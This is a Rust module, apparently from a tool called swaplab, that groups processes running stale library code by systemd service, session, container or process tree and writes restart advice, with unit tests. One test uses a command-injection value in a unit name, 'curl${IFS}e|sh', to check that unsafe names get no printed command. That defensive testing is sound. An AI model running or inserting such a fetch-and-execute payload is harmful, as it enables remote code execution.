//! What to restart: each flagged process's restart advice, and the flagged
//! processes grouped by what a person restarts (`swaplab stale --plan`).
//!
//! A group is, in this order of preference:
//! - a systemd service, from the process's cgroup, when systemd runs the
//!   machine: `systemctl restart UNIT` (`systemctl --user -M USER@ restart
//!   UNIT` for a user's own service);
//! - a login session (`session-N.scope`): `loginctl terminate-session N`,
//!   or the user logs out and in again;
//! - a container or chroot (the process's root directory is not the
//!   scanner's): restarted by whatever runs it, named by its cgroup and
//!   root;
//! - otherwise the top of the process tree that runs the same stale code: a
//!   master and the workers it forked are one entry (L04, U07).
//!
//! A fork-only restart (nginx's `HUP`: new workers forked from the master)
//! copies the master's code into every new worker. When the top of a group
//! runs stale code itself and has forked children that share it, the group
//! says an exec (nginx's `USR2`) or a full restart is needed.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use crate::report::{Group, GroupKind, Marks, Restart, StaleProcess, Urgency, PLAIN};

/// The systemd service a cgroup path names: the innermost `*.service`, and
/// the user manager (`user@UID.service`) above it, if any. The user manager
/// itself is no service to restart: its apps and terminals sit in scopes
/// below it, and restarting it ends the user's session.
pub fn service_in(cgroup: &str) -> Option<(String, Option<u32>)> {
    let parts: Vec<&str> = cgroup.split('/').collect();
    let at = parts.iter().rposition(|c| c.ends_with(".service"))?;
    let unit = parts[at];
    if unit.starts_with("user@") {
        return None;
    }
    let user = parts[..at].iter().find_map(|c| {
        c.strip_prefix("user@")?
            .strip_suffix(".service")?
            .parse::<u32>()
            .ok()
    });
    Some((unit.to_string(), user))
}

/// A flagged process's parent that the report does not hold: not asked
/// for (`--pid`, `--user`, `--match`), clean, or not judged.
pub enum Parent {
    /// It runs stale code too (read for the plan only).
    Stale(Box<StaleProcess>),
    Clean,
    /// It could not be read, or a file it maps could not be judged; its
    /// command name (which `/proc/PID/stat` gives anyone).
    Unjudged(String),
}

/// The parents the report does not hold, by pid.
pub type Parents = HashMap<i32, Parent>;

/// Fills in each process's restart advice: a process whose parent runs the
/// same stale code was forked from it, and restarting it by another fork
/// would copy that code again (L04, U07): the parent (the top of such a
/// chain) needs an exec or a full restart. The chain goes on through the
/// `parents` the report does not hold; where it meets one that could not
/// be read or judged and has the process's own name (a fork keeps the
/// name; an exec of another program changes it), a fork from it may copy
/// the same code, and the advice says that it cannot tell.
pub fn advise(procs: &mut [StaleProcess], parents: &Parents) {
    let outside = parents.iter().filter_map(|(&pid, p)| match p {
        Parent::Stale(s) => Some((pid, &**s)),
        _ => None,
    });
    let index: HashMap<i32, &StaleProcess> =
        procs.iter().map(|p| (p.pid, p)).chain(outside).collect();
    // A fork keeps the parent's program and its layout: the same
    // executable, each shared stale file at the same address. A child that
    // exec'd (a shell's command, a daemon started by systemd) maps the same
    // old libc elsewhere, and restarting it alone is enough.
    let inherits = |child: &StaleProcess, parent: &StaleProcess| {
        parent.need == Urgency::Required
            && parent.root == child.root
            && child.exe.is_some()
            && child.exe == parent.exe
            && child
                .files
                .iter()
                .filter(|f| f.need == Urgency::Required)
                .all(|f| {
                    parent
                        .files
                        .iter()
                        .any(|g| g.mapped == f.mapped && g.address == f.address)
                })
    };
    let mut tops = Vec::with_capacity(procs.len());
    for p in procs.iter() {
        let mut top = p.pid;
        let mut cur = p;
        let mut unread = None;
        for _ in 0..64 {
            if cur.need != Urgency::Required {
                break;
            }
            match index.get(&cur.ppid) {
                Some(parent) if inherits(cur, parent) => {
                    top = parent.pid;
                    cur = parent;
                }
                Some(_) => break,
                None => {
                    if matches!(parents.get(&cur.ppid), Some(Parent::Unjudged(c)) if *c == cur.command)
                    {
                        unread = Some(cur.ppid);
                    }
                    break;
                }
            }
        }
        tops.push((top, unread));
    }
    for (p, (top, unread)) in procs.iter_mut().zip(tops) {
        p.restart = Restart {
            at: top,
            fork_is_enough: p.need == Urgency::Optional || (top == p.pid && unread.is_none()),
            advice: String::new(),
            parent_unjudged: unread,
        };
        p.restart.advice = advice(p, &PLAIN);
    }
}

const OPTIONAL: &str = "the files on disk have the same content";

/// What to do for process `p` (after [`advise`]), for people.
pub fn advice(p: &StaleProcess, marks: &Marks) -> String {
    match p.need {
        Urgency::Optional => OPTIONAL.to_string(),
        Urgency::Required if p.restart.at == p.pid => match p.restart.parent_unjudged {
            None => "exec it again or restart it".to_string(),
            Some(parent) => format!(
                "exec it again or restart it; its parent {} has its name and could not be read or judged: whether a fork from it copies the same old code cannot be told",
                (marks.pid)(parent)
            ),
        },
        Urgency::Required => format!(
            "exec or restart {}, which runs the same old code: a fork from it copies that code, so restarting only this process is not enough",
            (marks.pid)(p.restart.at)
        ),
    }
}

/// Groups the flagged processes (after [`advise`]) by what a person
/// restarts; `systemd` says whether systemd runs the machine (its units
/// mean nothing otherwise). The service the scan itself runs in (`own`) is
/// (its cgroup) never offered: restarting it would end the scan's own session (a CI
/// runner, a terminal's service), so its processes are grouped by tree.
/// Groups that need a restart come first.
pub fn groups(
    procs: &[StaleProcess],
    parents: &Parents,
    systemd: bool,
    own: Option<&str>,
) -> Vec<Group> {
    let outside = parents.iter().filter_map(|(&pid, p)| match p {
        Parent::Stale(s) => Some((pid, &**s)),
        _ => None,
    });
    let by_pid: HashMap<i32, &StaleProcess> =
        procs.iter().map(|p| (p.pid, p)).chain(outside).collect();
    let mut keyed: BTreeMap<(GroupKind, String), Vec<&StaleProcess>> = BTreeMap::new();
    for p in procs {
        keyed.entry(key(p, systemd, own)).or_default().push(p);
    }
    let mut out: Vec<Group> = keyed
        .into_iter()
        .map(|((kind, name), members)| group(kind, name, &members, &by_pid))
        .collect();
    // The oldest top first, as the processes are listed: pids wrap around
    // (at 32768 on many machines), and a later start can get a lower pid.
    out.sort_by_key(|g| (std::cmp::Reverse(g.need), started(g.top, &by_pid), g.top));
    out
}

/// When process `pid` started (ns), as the report knows it; unknown last.
fn started(pid: i32, by_pid: &HashMap<i32, &StaleProcess>) -> i128 {
    by_pid.get(&pid).map_or(i128::MAX, |p| p.start_ns)
}

/// The login session a cgroup path names (`session-N.scope` under a
/// user's slice): its id.
pub fn session_in(cgroup: &str) -> Option<String> {
    cgroup.split('/').find_map(|c| {
        c.strip_prefix("session-")?
            .strip_suffix(".scope")
            .map(str::to_string)
    })
}

fn key(p: &StaleProcess, systemd: bool, own: Option<&str>) -> (GroupKind, String) {
    let own_unit = own.and_then(service_in);
    let cgroup = p.cgroup.as_deref().filter(|_| systemd);
    let unit = cgroup
        .and_then(service_in)
        .filter(|u| own_unit.as_ref() != Some(u));
    // The scan's own session is never offered either: logging out ends it.
    let session = cgroup
        .and_then(session_in)
        .filter(|s| own.and_then(session_in).as_ref() != Some(s));
    if let (None, Some(id), None) = (&unit, session, &p.root) {
        return (GroupKind::Session, format!("{id}/{}", p.user));
    }
    match (unit, &p.root) {
        (Some((unit, None)), _) => (GroupKind::Service, unit),
        (Some((unit, Some(uid))), _) => {
            (GroupKind::UserService, format!("{}/{unit}", user_name(uid)))
        }
        // A container: its cgroup names it; processes in one cgroup with
        // different roots are different containers.
        (None, Some(root)) => (
            GroupKind::Container,
            match &p.cgroup {
                Some(c) => format!("{c} {}", root.display()),
                None => root.display().to_string(),
            },
        ),
        (None, None) => (GroupKind::ProcessTree, p.restart.at.to_string()),
    }
}

/// The user a uid names, for `systemctl --user -M USER@`; the number when
/// it names none.
fn user_name(uid: u32) -> String {
    nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(uid))
        .ok()
        .flatten()
        .map_or_else(|| uid.to_string(), |u| u.name)
}

/// Whether `unit` is a name systemd accepts (letters, digits, `:-_.\@`),
/// and so safe to print inside a command line.
fn unit_name_ok(unit: &str) -> bool {
    !unit.is_empty()
        && unit.len() <= 255
        && unit
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ":-_.\\@".contains(c))
}

fn group(
    kind: GroupKind,
    name: String,
    members: &[&StaleProcess],
    by_pid: &HashMap<i32, &StaleProcess>,
) -> Group {
    let pids: Vec<i32> = members.iter().map(|p| p.pid).collect();
    let need = members
        .iter()
        .map(|p| p.need)
        .max()
        .unwrap_or(Urgency::Optional);
    // The top: a member no other member is the parent of; the oldest
    // among such, for a service with several trees.
    let inside: BTreeSet<i32> = pids.iter().copied().collect();
    let top = members
        .iter()
        .filter(|p| !inside.contains(&p.ppid))
        .map(|p| p.restart.at)
        .min_by_key(|&at| (started(at, by_pid), at))
        .unwrap_or(pids[0]);
    let top_stale = by_pid
        .get(&top)
        .is_some_and(|p| p.need == Urgency::Required);
    let forked_from_top = members.iter().any(|p| p.pid != top && p.restart.at == top);
    let exec_needed = top_stale && forked_from_top;
    let fixes: BTreeSet<String> = members
        .iter()
        .flat_map(|p| p.files.iter())
        .map(|f| match &f.package {
            Some(pkg) => format!("{} ({})", f.path.display(), pkg.name),
            None => f.path.display().to_string(),
        })
        .collect();
    let command = match kind {
        GroupKind::Service if unit_name_ok(&name) => Some(format!("systemctl restart {name}")),
        GroupKind::UserService => name
            .split_once('/')
            .filter(|(user, unit)| unit_name_ok(user) && unit_name_ok(unit))
            .map(|(user, unit)| format!("systemctl --user -M {user}@ restart {unit}")),
        GroupKind::Session => name
            .split_once('/')
            .filter(|(id, _)| unit_name_ok(id))
            .map(|(id, _)| format!("loginctl terminate-session {id}")),
        _ => None,
    };
    let mut g = Group {
        kind,
        name,
        command,
        action: String::new(),
        exec_needed,
        need,
        pids,
        top,
        top_command: by_pid
            .get(&top)
            .map_or(String::new(), |p| p.command.clone()),
        fixes: fixes.into_iter().collect(),
    };
    g.action = action(&g, &PLAIN);
    g
}

/// What to do for group `g`, for people.
pub fn action(g: &Group, marks: &Marks) -> String {
    let pid = marks.pid;
    let reload = if g.exec_needed {
        "; a reload that only forks new workers from it (nginx HUP) copies the old code: exec it again (nginx USR2) or restart it fully"
    } else {
        ""
    };
    let forked = g.pids.iter().filter(|&&p| p != g.top).count();
    match g.kind {
        _ if g.need == Urgency::Optional => OPTIONAL.to_string(),
        GroupKind::Service => format!("restart the service {}{reload}", g.name),
        GroupKind::UserService => {
            let (user, unit) = g.name.split_once('/').unwrap_or(("", &g.name));
            format!("restart user {user}'s service {unit}{reload}")
        }
        GroupKind::Session => {
            let (id, user) = g.name.split_once('/').unwrap_or((&g.name, ""));
            format!("user {user} logs out of session {id} and in again (or ends it)")
        }
        GroupKind::Container => format!(
            "restart the container or chroot ({}) from where it is run{reload}",
            (marks.vol)(g.name.clone())
        ),
        GroupKind::ProcessTree if forked > 0 => format!(
            "restart process {} ({}) and the {forked} forked from it{reload}",
            pid(g.top),
            g.top_command
        ),
        GroupKind::ProcessTree => format!("restart process {} ({})", pid(g.top), g.top_command),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{FileId, Reason, Role, StaleFile};

    /// A flagged process in `cgroup`, forked from `ppid`, mapping the
    /// replaced file `inode`.
    fn flagged(pid: i32, ppid: i32, cgroup: &str, inode: u64) -> StaleProcess {
        StaleProcess {
            pid,
            ppid,
            uid: 1000,
            user: "alice".into(),
            command: "nginx".into(),
            args: String::new(),
            service: None,
            cgroup: Some(cgroup.into()),
            root: None,
            start_ns: 0,
            exe: Some(FileId {
                major: 8,
                minor: 1,
                inode: 99,
            }),
            need: Urgency::Required,
            restart: Restart {
                at: pid,
                fork_is_enough: false,
                advice: String::new(),
                parent_unjudged: None,
            },
            files: vec![StaleFile {
                path: "/usr/lib/libssl.so.3".into(),
                role: Role::Library,
                reason: Reason::Replaced,
                need: Urgency::Required,
                mapped: FileId {
                    major: 8,
                    minor: 1,
                    inode,
                },
                deleted: true,
                on_disk: None,
                evidence: String::new(),
                detail: String::new(),
                package: None,
                path_in_maps: None,
                identity: crate::report::Identity::Stat,
                address: 0x7f00_0000,
            }],
        }
    }

    #[test]
    fn service_in_reads_system_and_user_units_from_cgroup_paths() {
        assert_eq!(
            service_in("/system.slice/nginx.service"),
            Some(("nginx.service".into(), None))
        );
        assert_eq!(
            service_in("/user.slice/user-1000.slice/user@1000.service/app.slice/foo.service"),
            Some(("foo.service".into(), Some(1000)))
        );
        assert_eq!(
            service_in("/user.slice/user-1000.slice/session-3.scope"),
            None
        );
        // An app or terminal under the user's manager: the manager is no
        // service to restart.
        assert_eq!(
            service_in("/user.slice/user-1000.slice/user@1000.service/app.slice/app-firefox.scope"),
            None
        );
    }

    #[test]
    fn a_service_is_one_group_with_its_command_unless_the_scan_runs_in_it() {
        let mut procs = vec![
            flagged(10, 1, "/system.slice/nginx.service", 7),
            flagged(11, 10, "/system.slice/nginx.service", 7),
            flagged(
                20,
                1,
                "/user.slice/user-0.slice/user@0.service/app.slice/foo.service",
                7,
            ),
            flagged(30, 1, "/user.slice/user-1000.slice/session-3.scope", 7),
        ];
        advise(&mut procs, &Parents::new());
        let g = groups(&procs, &Parents::new(), true, None);
        assert_eq!(g.len(), 3, "{g:#?}");
        let nginx = g.iter().find(|g| g.name == "nginx.service").unwrap();
        assert_eq!(nginx.kind, GroupKind::Service);
        assert_eq!(nginx.pids, vec![10, 11]);
        assert_eq!(nginx.top, 10);
        assert!(nginx.exec_needed, "the master runs the old code too");
        assert_eq!(
            nginx.command.as_deref(),
            Some("systemctl restart nginx.service")
        );
        let user = g.iter().find(|g| g.kind == GroupKind::UserService).unwrap();
        assert_eq!(
            user.command.as_deref(),
            Some("systemctl --user -M root@ restart foo.service")
        );
        // A session scope is no unit to restart: the session is.
        let session = g.iter().find(|g| g.kind == GroupKind::Session).unwrap();
        assert_eq!(session.pids, vec![30]);
        assert_eq!(
            session.command.as_deref(),
            Some("loginctl terminate-session 3")
        );
        // Unless the scan runs in that session: then the tree.
        let g = groups(
            &procs,
            &Parents::new(),
            true,
            Some("/user.slice/user-1000.slice/session-3.scope"),
        );
        assert!(g
            .iter()
            .any(|g| g.kind == GroupKind::ProcessTree && g.pids == vec![30]));
        // Without systemd, or inside the same service, the trees count.
        let g = groups(&procs, &Parents::new(), false, None);
        assert!(g.iter().all(|g| g.kind == GroupKind::ProcessTree), "{g:#?}");
        let g = groups(
            &procs,
            &Parents::new(),
            true,
            Some("/system.slice/nginx.service"),
        );
        assert!(g
            .iter()
            .any(|g| g.kind == GroupKind::ProcessTree && g.pids == vec![10, 11]));
    }

    #[test]
    fn a_child_that_exec_d_another_program_or_lays_the_file_out_elsewhere_is_no_fork() {
        let master = flagged(10, 1, "/", 7);
        let mut exec_d = flagged(11, 10, "/", 7);
        exec_d.exe = Some(FileId {
            major: 8,
            minor: 1,
            inode: 100,
        });
        let mut relaid = flagged(12, 10, "/", 7);
        relaid.files[0].address = 0x7f10_0000;
        let forked = flagged(13, 10, "/", 7);
        let mut procs = vec![master, exec_d, relaid, forked];
        advise(&mut procs, &Parents::new());
        let at: Vec<(i32, i32)> = procs.iter().map(|p| (p.pid, p.restart.at)).collect();
        assert_eq!(at, vec![(10, 10), (11, 11), (12, 12), (13, 10)]);
        assert!(procs[1].restart.fork_is_enough && !procs[3].restart.fork_is_enough);
    }

    #[test]
    fn a_parent_that_could_not_be_judged_and_has_the_name_leaves_the_fork_in_doubt() {
        // Worker 11's parent 10 is outside the report: not judged. Same
        // name (nginx): a fork from it may copy the old code. Worker 21's
        // parent has another name: it exec'd, and a restart of it is enough.
        let mut procs = vec![flagged(11, 10, "/", 7), flagged(21, 20, "/", 7)];
        let mut parents = Parents::new();
        parents.insert(10, Parent::Unjudged("nginx".into()));
        parents.insert(20, Parent::Unjudged("sshd".into()));
        advise(&mut procs, &parents);
        assert_eq!(procs[0].restart.parent_unjudged, Some(10));
        assert!(!procs[0].restart.fork_is_enough);
        assert!(procs[0].restart.advice.contains("cannot be told"));
        assert_eq!(procs[1].restart.parent_unjudged, None);
        assert!(procs[1].restart.fork_is_enough);
    }

    /// Pids wrap around: a process started later may have a lower pid.
    /// Groups come oldest first, and a service's top is its oldest tree,
    /// whatever the pids.
    #[test]
    fn groups_and_tops_go_by_start_not_by_pid() {
        let started = |pid, ppid, cgroup, ns| StaleProcess {
            start_ns: ns,
            ..flagged(pid, ppid, cgroup, 7)
        };
        let mut procs = vec![
            started(32700, 1, "/", 1_000),
            started(32701, 1, "/", 2_000),
            started(150, 1, "/", 3_000),
            started(32750, 1, "/system.slice/app.service", 4_000),
            started(160, 1, "/system.slice/app.service", 5_000),
        ];
        advise(&mut procs, &Parents::new());
        let g = groups(&procs, &Parents::new(), true, None);
        let tops: Vec<i32> = g.iter().map(|g| g.top).collect();
        assert_eq!(tops, vec![32700, 32701, 150, 32750], "{g:#?}");
    }

    #[test]
    fn a_unit_name_systemd_would_refuse_gets_no_command() {
        let mut procs = vec![flagged(10, 1, "/system.slice/x;curl${IFS}e|sh;.service", 7)];
        advise(&mut procs, &Parents::new());
        let g = groups(&procs, &Parents::new(), true, None);
        assert_eq!(g[0].kind, GroupKind::Service);
        assert_eq!(g[0].command, None);
    }
}
